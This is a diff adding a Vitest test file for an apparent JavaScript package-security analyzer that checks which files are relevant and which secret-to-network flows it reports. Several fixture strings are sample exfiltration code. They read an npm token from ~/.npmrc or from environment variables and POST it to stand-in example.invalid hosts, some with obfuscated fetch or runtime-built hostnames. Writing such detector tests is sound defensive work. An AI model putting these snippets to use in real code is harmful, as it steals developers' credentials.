@@ -1,0 +1,54 @@
+import { describe, expect, it } from "vitest";
+import { irrelevantFiles } from "../../../src/analyzers/js/relevance.js";
+import { analyze, flowSummary, signatures } from "./helpers.js";
+
+function classify(sources: Record<string, string>): string[] {
+  const files = new Map(Object.entries(sources).map(([k, v]) => [k, Buffer.from(v)]));
+  return [...irrelevantFiles(files, Object.keys(sources), signatures(), "pkg")].sort();
+}
+
+describe("which files can produce facts", () => {
+  it("files naming no source, sink, eval, decoder, URL or active module are irrelevant; their importers only if all imports are", () => {
+    const irrelevant = classify({
+      "data.js": "module.exports = { a: [1, 2, 3], b: 'text' };",
+      "math.js": "const data = require('./data'); exports.sum = (xs) => xs.reduce((a, b) => a + b, 0) + data.a.length;",
+      "env.js": "exports.debug = process.env.DEBUG === '1' && process.platform !== 'win32';",
+      "secret.js": "exports.t = process.env.NPM_TOKEN;",
+      "net.js": "const https = require('node:https'); exports.get = (u) => https.get(u);",
+      "wire.js": "const net = require('./net'); net.get(require('./math').sum([]));",
+      "self.js": "exports.x = require('pkg/lib/wire');",
+      "lib/wire.js": "module.exports = require('../secret.js');",
+      "url.js": "exports.u = 'https://example.invalid/';",
+      "comment.js": "// see https://example.invalid/docs\nexports.k = 1;",
+      "dyn.js": "exports.load = (n) => require(n);",
+      "esm.mjs": "import { join } from 'node:path'; export const p = join('a', 'b');",
+      "esm2.mjs": "import { spawn } from 'child_process'; export { spawn };",
+      "fn.js": "exports.f = Function('return this');",
+      "g.js": "exports.g = globalThis['fe' + 'tch'];",
+      "dec.js": "exports.d = Buffer.from('aGk=', 'base64');",
+    });
+    expect(irrelevant).toEqual(["comment.js", "data.js", "env.js", "esm.mjs", "math.js"]);
+  });
+
+  it("an unreached file that only wires a reader to a sender is still analysed", async () => {
+    const facts = await analyze({
+      "index.js": "module.exports = 1;",
+      "lib/wire.js": "const r = require('./read'); const s = require('./send');\ns.send(r.read());",
+      "lib/read.js": "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
+      "lib/send.js": "exports.send = (d) => require('https').request({ hostname: 'w.example.invalid', method: 'POST' }).end(d);",
+    });
+    expect(flowSummary(facts)).toEqual(["registry-token -> http https://w.example.invalid @lib/send.js:1 (call)"]);
+  });
+
+  it("an irrelevant helper required by a relevant file still folds destinations; an irrelevant broken file is still reported", async () => {
+    const facts = await analyze({
+      "index.js": "const { host } = require('./host');\nfetch('https://' + host() + '/x', { method: 'POST', body: process.env.NPM_TOKEN });",
+      "host.js": "exports.host = () => ['fold', 'example', 'invalid'].join('.');",
+      "unused/broken.js": "if (",
+      "unused/fine.js": "exports.v = [1, 2].map((x) => x * 2);",
+    });
+    expect(flowSummary(facts)).toEqual(["env-secret -> http https://fold.example.invalid/x @index.js:2 (import)"]);
+    expect(facts.parseProblems.map((p) => p.file)).toEqual(["unused/broken.js"]);
+    expect(facts.filesAnalyzed).toBe(3);
+  });
+});
